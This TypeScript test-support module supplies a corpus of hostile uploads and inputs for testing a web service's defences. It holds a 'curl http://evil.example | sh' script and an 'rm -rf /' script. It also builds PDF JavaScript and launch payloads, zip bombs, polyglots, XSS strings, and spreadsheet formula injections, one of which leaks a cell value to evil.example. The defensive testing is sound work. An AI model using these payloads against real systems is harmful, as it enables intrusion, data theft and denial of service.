/**
 * The hostile-input corpus: files that must never be stored, text that must never come back active (unescaped HTML,
 * template code, a live spreadsheet formula), and requests no browser form sends. Shared by `npm run test:hostile`
 * (everything) and test/server/hostileCorpus.test.ts (the fast subset, in `npm test`).
 */
import zlib from 'node:zlib'
import { zip } from '../../test/support/zipWriter.ts'

const MB = 1024 * 1024

export interface HostileFile {
  name: string
  fileName: string
  contentType: string
  bytes: Buffer
}

/** A small well-formed PDF whose catalog carries `catalogExtra`, with `body` objects before the trailer. */
export function pdf(catalogExtra = '', body = ''): Buffer {
  const head =
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>\nendobj\n` +
    `2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n${body}`
  return Buffer.from(`${head}xref\n0 3\ntrailer\n<< /Root 1 0 R >>\nstartxref\n${head.length}\n%%EOF\n`, 'latin1')
}

export const PNG = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  Buffer.from('0000000d49484452000000010000000108060000001f15c489', 'hex'),
  Buffer.from('0000000a49444154789c6300010000050001', 'hex'),
  Buffer.from('0d0a2db40000000049454e44ae426082', 'hex'),
])

const WORD_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const SHEET_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'

/** A part that inflates to `inflatedMB` megabytes while its zip headers claim 1 MB (deflated in 16 MB steps). */
function bombPart(name: string, inflatedMB: number) {
  const chunk = Buffer.alloc(16 * MB, 0x20)
  const parts: Buffer[] = []
  const deflate = zlib.createDeflateRaw({ level: 9 })
  deflate.on('data', (d: Buffer) => parts.push(d))
  const done = new Promise((resolve) => deflate.on('end', resolve))
  return (async () => {
    for (let written = 0; written < inflatedMB; written += 16) {
      if (!deflate.write(chunk)) await new Promise((r) => deflate.once('drain', r))
    }
    deflate.end()
    await done
    return { name, data: Buffer.concat(parts), declaredSize: 1 * MB, prePacked: true }
  })()
}

/** zipWriter deflates what it is given: a bomb's part is written already deflated, as a stored entry with method 8. */
function zipWithPacked(
  entries: Array<{ name: string; data: Buffer | string; declaredSize?: number; prePacked?: boolean }>,
) {
  const out = zip(entries.map((e) => ({ name: e.name, data: e.data, declaredSize: e.declaredSize, stored: true })))
  // Mark the pre-packed entries as deflated (method 8) in their local and central headers.
  let p = 0
  const names = new Set(entries.filter((e) => e.prePacked).map((e) => e.name))
  while (p + 30 <= out.length && out.readUInt32LE(p) === 0x04034b50) {
    const size = out.readUInt32LE(p + 18)
    const nameLen = out.readUInt16LE(p + 26)
    const name = out.subarray(p + 30, p + 30 + nameLen).toString()
    if (names.has(name)) out.writeUInt16LE(8, p + 8)
    p += 30 + nameLen + size
  }
  while (p + 46 <= out.length && out.readUInt32LE(p) === 0x02014b50) {
    const nameLen = out.readUInt16LE(p + 28)
    const name = out.subarray(p + 46, p + 46 + nameLen).toString()
    if (names.has(name)) out.writeUInt16LE(8, p + 10)
    p += 46 + nameLen
  }
  return out
}

/**
 * The upload cases of issue 12, each with a name a person would believe. `bombMB` is how far the zip bombs inflate
 * (the full run uses 1 GB; the fast subset less, which is still past any cap worth having).
 */
export async function hostileFiles(bombMB: number): Promise<HostileFile[]> {
  const htmlPolyglot = pdf(
    '',
    '3 0 obj\n<< /Length 40 >>\nstream\n<html><script>alert(1)</script></html>\nendstream\nendobj\n',
  )
  const zipPolyglot = Buffer.concat([pdf(), zip([{ name: 'payload.exe', data: 'MZ' }]), Buffer.from('\n%%EOF\n')])
  const inner = zip([{ name: 'deeper.zip', data: zip([{ name: 'deepest.txt', data: 'x'.repeat(1000) }]) }])
  return [
    {
      name: 'text renamed .pdf',
      fileName: 'minutes.pdf',
      contentType: 'application/pdf',
      bytes: Buffer.from('Board minutes, March.\nNothing to see here.\n'),
    },
    {
      name: 'shell script as .pdf',
      fileName: 'report.pdf',
      contentType: 'application/pdf',
      bytes: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
    },
    {
      name: 'shell script as .sh',
      fileName: 'tidy.sh',
      contentType: 'application/x-sh',
      bytes: Buffer.from('#!/bin/sh\nrm -rf /\n'),
    },
    {
      name: 'Windows program as .pdf',
      fileName: 'plan.pdf',
      contentType: 'application/pdf',
      bytes: Buffer.from('MZ\x90\x00\x03\x00\x00\x00 This program cannot be run in DOS mode'),
    },
    { name: 'PDF+HTML polyglot', fileName: 'letter.pdf', contentType: 'application/pdf', bytes: htmlPolyglot },
    { name: 'PDF+ZIP polyglot', fileName: 'letter.pdf', contentType: 'application/pdf', bytes: zipPolyglot },
    {
      name: 'PDF with JavaScript (OpenAction)',
      fileName: 'report.pdf',
      contentType: 'application/pdf',
      bytes: pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    },
    {
      name: 'PDF with JavaScript (hex-escaped name)',
      fileName: 'report.pdf',
      contentType: 'application/pdf',
      bytes: pdf('/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>'),
    },
    {
      name: 'PDF that launches a program',
      fileName: 'report.pdf',
      contentType: 'application/pdf',
      bytes: pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    },
    { name: 'cut-off PDF', fileName: 'report.pdf', contentType: 'application/pdf', bytes: pdf().subarray(0, 120) },
    {
      name: 'SVG claiming PNG',
      fileName: 'chart.png',
      contentType: 'image/png',
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'),
    },
    {
      name: 'HTML claiming PNG',
      fileName: 'chart.png',
      contentType: 'image/png',
      bytes: Buffer.from('<!doctype html><script>alert(1)</script>'),
    },
    {
      name: `DOCX zip bomb (claims 1 MB, inflates ${bombMB} MB)`,
      fileName: 'minutes.docx',
      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      bytes: zipWithPacked([
        { name: '[Content_Types].xml', data: WORD_TYPES },
        await bombPart('word/document.xml', bombMB),
      ]),
    },
    {
      name: `XLSX zip bomb (claims 1 MB, inflates ${bombMB} MB)`,
      fileName: 'kpis.xlsx',
      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      bytes: zipWithPacked([
        { name: '[Content_Types].xml', data: SHEET_TYPES },
        await bombPart('xl/workbook.xml', bombMB),
      ]),
    },
    {
      name: 'DOCX holding nested zips',
      fileName: 'minutes.docx',
      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      bytes: zip([
        { name: '[Content_Types].xml', data: WORD_TYPES },
        { name: 'word/document.xml', data: '<w:document/>' },
        { name: 'word/embeddings/inner.zip', data: inner },
      ]),
    },
    {
      name: 'DOCX with a macro project',
      fileName: 'minutes.docx',
      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      bytes: zip([
        { name: '[Content_Types].xml', data: WORD_TYPES },
        { name: 'word/document.xml', data: '<w:document/>' },
        { name: 'word/vbaProject.bin', data: 'Attribute VB_Name = "x"' },
      ]),
    },
  ]
}

/** Files that must be accepted: if these are refused, the harness is broken, not the service safe. */
export function controlFiles(): HostileFile[] {
  return [
    { name: 'plain PDF', fileName: 'minutes.pdf', contentType: 'application/pdf', bytes: pdf() },
    { name: 'plain PNG', fileName: 'chart.png', contentType: 'image/png', bytes: PNG },
    // Kept, but its name must lose the right-to-left override that makes it read "chartexe.png".
    { name: 'PNG with a bidi override in its name', fileName: BIDI_NAME, contentType: 'image/png', bytes: PNG },
  ]
}

/** A file name that displays as "slx6chartexe.png" but ends in .exe. */
export const BIDI_NAME = 'slx6chart\u202Egnp.exe'

/** Text that must be shown as text: each carries a marker that only appears if the text came back active. */
export interface HostileText {
  name: string
  value: string
  /** Found in a page only if the payload was rendered unescaped (or evaluated). */
  live: RegExp
}

export const XSS: HostileText[] = [
  { name: 'script tag', value: `<script>alert('slx1')</script>`, live: /<script>alert\('slx1'\)<\/script>/ },
  {
    name: 'attribute break-out',
    value: `"><img src=x onerror=alert('slx2')>`,
    live: /<img src=x onerror=alert\('slx2'\)>/,
  },
  { name: 'textarea break-out', value: `</textarea><svg onload=alert('slx3')>`, live: /<svg onload=alert\('slx3'\)>/ },
  { name: 'template code', value: 'slx4{{ 7*7 }}{% raw %}', live: /slx449/ },
  { name: 'javascript: link', value: `javascript:alert('slx5')`, live: /href="javascript:alert/i },
]

/** Spreadsheet formulas: in a CSV or XLSX export they must come back inert (prefixed ' or typed as text). */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  `=cmd|' /C calc'!A0`,
  '+SUM(1+1)*cmd',
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
]

/** A cell a spreadsheet would evaluate: it starts with = + - @ tab or CR and is not a plain number. */
export function liveFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell)
}

/**
 * A plain RFC 4180 reader (not papaparse, which writes the exports): fields, quotes doubled inside quoted fields.
 */
export function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  const endField = () => {
    row.push(field)
    field = ''
  }
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (ch === '"') quoted = false
      else field += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') endField()
    else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++
      endField()
      rows.push(row)
      row = []
    } else field += ch
  }
  if (field !== '' || row.length) {
    endField()
    rows.push(row)
  }
  return rows
}

/** The entries of a zip (an XLSX), inflated with node's zlib: an independent reader of what exceljs wrote. */
export function readZip(buf: Buffer): Map<string, string> {
  const out = new Map<string, string>()
  let end = buf.length - 22
  while (end >= 0 && buf.readUInt32LE(end) !== 0x06054b50) end--
  if (end < 0) throw new Error('not a zip: no end-of-central-directory record')
  const count = buf.readUInt16LE(end + 10)
  let p = buf.readUInt32LE(end + 16)
  for (let n = 0; n < count; n++) {
    const method = buf.readUInt16LE(p + 10)
    const size = buf.readUInt32LE(p + 20)
    const nameLen = buf.readUInt16LE(p + 28)
    const extraLen = buf.readUInt16LE(p + 30)
    const commentLen = buf.readUInt16LE(p + 32)
    const local = buf.readUInt32LE(p + 42)
    const name = buf.subarray(p + 46, p + 46 + nameLen).toString()
    const dataAt = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28)
    const data = buf.subarray(dataAt, dataAt + size)
    out.set(name, (method === 8 ? zlib.inflateRawSync(data) : data).toString('utf8'))
    p += 46 + nameLen + extraLen + commentLen
  }
  return out
}

/** XML text unescaped, for reading cell strings. */
export const xmlText = (s: string) =>
  s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#x([0-9a-f]+);/gi, (_m, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_m, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&amp;/g, '&')
